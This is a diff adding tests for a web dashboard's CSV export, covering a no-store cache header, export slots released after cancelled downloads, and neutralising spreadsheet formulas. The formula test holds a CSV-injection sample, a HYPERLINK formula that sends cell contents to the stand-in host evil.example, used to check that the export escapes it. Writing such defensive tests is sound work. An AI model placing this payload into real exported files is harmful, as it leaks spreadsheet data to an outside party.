@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import quote
 
 import pytest
 from starlette.testclient import TestClient
 
+from tests.api.test_export_slots import ROWS, store_events
 from tests.conftest import KeyMaker
 from tests.dashboard.conftest import seed
+from tests.walkaway import WAYS, WalkAway, walk_away
+from threadline.store.engine import Database
 
 
 @pytest.fixture
@@ -24,6 +28,7 @@ def _rows(client: TestClient, path: str) -> list[dict[str, str]]:
     assert response.status_code == 200, response.text
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"].startswith('attachment; filename="')
+    assert response.headers["cache-control"] == "no-store"
     assert "omega" not in response.text
     return list(csv.DictReader(io.StringIO(response.text)))
 
@@ -70,3 +75,35 @@ def test_event_types_csv_counts_the_periods_events_by_type(seeded: TestClient) -
         "chat_shared": "1",
         "search_result_clicked": "1",
     }
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_cancelled_downloads_give_their_export_slot_back(
+    signed_in: TestClient, db: Database, way: WalkAway
+) -> None:
+    store_events(db)
+    cookie = "; ".join(f"{name}={value}" for name, value in signed_in.cookies.items())
+    ctx = signed_in.app.state.services  # type: ignore[attr-defined]
+    for _ in range(ctx.settings.max_concurrent_exports * 3):
+        visit = walk_away(signed_in, way, "GET", "/dashboard/export/events.csv", {"cookie": cookie})
+        assert visit.status == 200
+        assert visit.headers["content-type"] == "text/csv; charset=utf-8"
+        assert visit.body.count(b"\r\n") < ROWS, "the client left before the end"
+    assert ctx.exports.running == 0
+    assert len(_rows(signed_in, "/dashboard/export/events.csv")) == ROWS
+
+
+def test_downloads_neutralise_formulas(seeded: TestClient, api_key: str) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    event = {
+        "type": formula,
+        "entityType": "message",
+        "messageId": "m-x",
+        "properties": {"n": formula},
+    }
+    headers = {"Authorization": f"Bearer {api_key}"}
+    assert seeded.post("/events", json=event, headers=headers).status_code == 200
+    rows = _rows(seeded, "/dashboard/export/events.csv?type=" + quote(formula))
+    assert [(row["type"], row["properties.n"]) for row in rows] == [("'" + formula, "'" + formula)]
+    counts = _rows(seeded, "/dashboard/export/event-types.csv")
+    assert {"type": "'" + formula, "count": "1"} in counts
